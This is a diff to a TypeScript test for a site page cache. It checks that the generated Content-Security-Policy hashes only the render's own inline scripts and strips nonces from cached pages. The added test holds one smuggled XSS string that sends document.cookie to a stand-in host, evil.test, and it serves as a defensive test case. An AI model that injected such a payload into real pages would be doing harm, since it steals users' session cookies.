@@ -109,18 +109,30 @@ describe("what the cache shares", () => {
     expect(cache.size().pages).toBe(0);
   });
 
-  it("a page with inline scripts, under a policy that allows exactly those scripts by hash and no nonce", async () => {
+  it("a page with inline scripts, under a policy that allows exactly the render's own scripts by hash and no nonce", async () => {
     const cache = createSitePageCache();
-    const html =
-      '<body><script>alert(1)</script><script type="module" async="">a\r\nb</script><script src="/x.js"></script></body>';
-    const entry = await cache.load("/login", page(html), "https://shop.test");
+    // Stored text that slipped past escaping would bring a script without the render's nonce.
+    const smuggled = "<script>fetch('//evil.test/?'+document.cookie)</script>";
+    const html = (nonce: string) =>
+      `<body><script nonce="${nonce}">alert(1)</script><p>${smuggled}</p>` +
+      `<script type="module" async="" nonce="${nonce}">a\r\nb</script><script src="/x.js"></script></body>`;
+    let nonce = "";
+    const render = (_path: string, renderNonce: string) => {
+      nonce = renderNonce;
+      return page(html(renderNonce))();
+    };
+    const entry = await cache.load("/login", render, "https://shop.test");
     const headers = entry!.headers.br;
     const csp = headers[headers.indexOf("content-security-policy") + 1];
     // The hashes as `openssl dgst -sha256 -binary | base64` gives them for "alert(1)" and "a\nb".
     expect(csp).toContain(
       "script-src 'self' 'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI=' 'sha256-fhj3NzEbLcOy8mndeDlrA1HxT7Zu+oefdoyyMYGIPHg=';",
     );
+    expect(csp).not.toContain(inlineScriptHashes(smuggled)[0]);
     expect(csp).not.toContain("nonce");
+    // The shared bytes keep the page, without the render's nonce.
+    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22}==$/);
+    expect(entry!.identity.toString()).toBe(html(nonce).replaceAll(` nonce="${nonce}"`, ""));
     expect(inlineScriptHashes(PLAIN)).toEqual([]);
   });
 
